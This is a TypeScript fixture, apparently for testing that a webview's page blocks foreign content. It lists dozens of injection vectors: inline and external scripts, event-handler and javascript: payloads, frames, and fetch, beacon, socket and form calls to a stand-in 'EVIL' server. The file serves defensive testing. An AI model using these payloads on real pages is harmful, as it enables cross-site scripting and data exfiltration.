/** An attack by a foreign text that became a part of a webview's page. */
export interface Try {
  name: string;
  /** Inserted into the page as it is. `EVIL` is an address of another server. */
  markup?: string;
  /** The selector of the element that is clicked then. */
  press?: string;
  /** Done by a script that runs already. */
  script?: string;
  /** Navigates away from the page, or would. */
  leaves?: true;
}

/** A script that runs leaves a mark, and every fetch reaches the other server. */
export const tries: readonly Try[] = [
  { name: 'an inline script', script: `add('script', { textContent: 'ATTACK' })` },
  { name: 'a script from elsewhere', script: `add('script', { src: 'EVIL/a.js' })` },
  { name: 'a module from elsewhere', script: `add('script', { type: 'module', src: 'EVIL/a.mjs' })` },
  { name: 'a script in a data address', script: `add('script', { src: 'data:text/javascript,ATTACK' })` },
  {
    name: 'a script in a blob',
    script: `add('script', { src: URL.createObjectURL(new Blob(['ATTACK'])) })`,
  },
  { name: 'a script in an attribute', markup: '<img src="x:" onerror="ATTACK">' },
  {
    name: 'a script in an SVG',
    markup: '<svg onload="ATTACK"><script>ATTACK</script></svg>',
  },
  { name: 'text that is run', script: `setTimeout('ATTACK', 0)` },
  { name: 'a function made of text', script: `new Function('ATTACK')()` },
  {
    name: 'a link that runs a script',
    markup: '<a id="press" href="javascript:ATTACK">x</a>',
    press: '#press',
  },
  { name: 'a link that runs a script in a frame', markup: '<iframe src="javascript:parent.ATTACK"></iframe>' },
  { name: 'a style sheet from elsewhere', markup: '<link rel="stylesheet" href="EVIL/a.css">' },
  { name: 'a style that imports', markup: '<style>@import url("EVIL/b.css");</style>' },
  { name: 'a style with a picture', markup: '<div style="background: url(EVIL/style.png)">x</div>' },
  { name: 'a font from elsewhere', script: `new FontFace('x', 'url(EVIL/a.woff2)').load()` },
  { name: 'a picture from elsewhere', markup: '<img src="EVIL/a.png">' },
  {
    name: 'a set of pictures from elsewhere',
    markup: '<img srcset="EVIL/b.png 1x"><picture><source srcset="EVIL/c.png"></picture>',
  },
  {
    name: 'a film and a sound from elsewhere',
    markup: '<video src="EVIL/a.mp4" autoplay></video><audio src="EVIL/a.mp3" autoplay></audio>',
  },
  { name: 'an object and a plug-in', markup: '<object data="EVIL/a.html"></object><embed src="EVIL/b.html">' },
  { name: 'a frame from elsewhere', markup: '<iframe src="EVIL/a.html"></iframe>' },
  {
    name: 'a frame with its own text',
    markup: '<iframe srcdoc="<script>parent.ATTACK</script><img src=EVIL/frame.png>"></iframe>',
  },
  { name: 'a frame with a data address', markup: '<iframe src="data:text/html,<img src=EVIL/data.png>"></iframe>' },
  {
    name: 'a page fetched ahead',
    markup: '<link rel="prefetch" href="EVIL/d.html"><link rel="preload" as="image" href="EVIL/d.png">',
  },
  { name: 'a module fetched ahead', markup: '<link rel="modulepreload" href="EVIL/d.mjs">' },
  {
    name: 'an icon and a manifest',
    markup: '<link rel="icon" href="EVIL/i.ico"><link rel="manifest" href="EVIL/m.json">',
  },
  { name: 'a request', script: `fetch('EVIL/fetch')` },
  { name: 'a request of the old kind', script: `const x = new XMLHttpRequest(); x.open('GET', 'EVIL/xhr'); x.send()` },
  { name: 'a beacon', script: `navigator.sendBeacon('EVIL/beacon', 'x')` },
  { name: 'a socket', script: `new WebSocket('EVIL/socket'.replace('http', 'ws'))` },
  { name: 'a source of events', script: `new EventSource('EVIL/events')` },
  { name: 'a worker', script: `new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker')"])))` },
  {
    name: 'a form',
    markup: '<form action="EVIL/form"><input name="a" value="b"><button id="press">x</button></form>',
    press: '#press',
    leaves: true,
  },
  {
    name: 'a form that posts',
    markup: '<form method="post" action="EVIL/post"><button id="press">x</button></form>',
    press: '#press',
    leaves: true,
  },
  {
    name: 'a base for relative addresses',
    script: `add('base', { href: 'EVIL/' }); if (document.baseURI.startsWith('EVIL')) ATTACK`,
  },
  {
    name: 'a page that refreshes itself',
    script: `add('meta', { httpEquiv: 'refresh', content: '0; url=EVIL/refresh' })`,
    leaves: true,
  },
  {
    name: 'a link to elsewhere',
    markup: '<a id="press" href="EVIL/link" ping="EVIL/ping">x</a>',
    press: '#press',
    leaves: true,
  },
  { name: 'a link to a new window', markup: '<a id="press" href="EVIL/window" target="_blank">x</a>', press: '#press' },
];
